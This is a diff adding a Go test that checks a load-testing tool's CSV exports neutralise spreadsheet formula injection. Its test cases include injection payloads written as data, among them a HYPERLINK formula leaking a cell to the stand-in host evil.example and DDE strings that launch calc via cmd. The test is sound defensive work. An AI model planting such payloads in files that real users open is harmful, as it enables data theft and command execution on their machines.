@@ -355,3 +355,50 @@ func vegetaBinary(t *testing.T) string {
 	}
 	return bin
 }
+
+// TestCSVNeutralisesFormulas checks that no cell of either CSV export starts with a
+// character a spreadsheet would read as a formula (OWASP's list: = + - @ TAB CR): a reason
+// phrase or a name from the target or the profile must not run in the reader's spreadsheet.
+func TestCSVNeutralisesFormulas(t *testing.T) {
+	cases := []struct {
+		name, errMsg string
+	}{
+		{"equals", `=HYPERLINK("http://evil.example/?"&A1,"click")`},
+		{"plus", "+1+cmd|' /C calc'!A0"},
+		{"minus", "-2+3"},
+		{"at", "@SUM(1+1)*cmd|' /C calc'!A0"},
+		{"tab", "\t=1+1"},
+		{"carriage return", "\r=1+1"},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			recs := synthetic(20)
+			recs[3].Kind, recs[3].Code, recs[3].Error = results.Kind5xx, 503, tc.errMsg
+			path := writeFile(t, recs)
+			for _, f := range []Format{CSV, VegetaCSV} {
+				out, _, err := export(t, path, f)
+				if err != nil {
+					t.Fatalf("%s: %v", f, err)
+				}
+				rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
+				if err != nil {
+					t.Fatalf("%s: %v", f, err)
+				}
+				found := false
+				for _, row := range rows {
+					for _, cell := range row {
+						if cell == "'"+tc.errMsg {
+							found = true
+						}
+						if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+							t.Errorf("%s: cell %q starts a formula", f, cell)
+						}
+					}
+				}
+				if !found {
+					t.Errorf("%s: no cell holds the message with a leading quote, %q", f, "'"+tc.errMsg)
+				}
+			}
+		})
+	}
+}
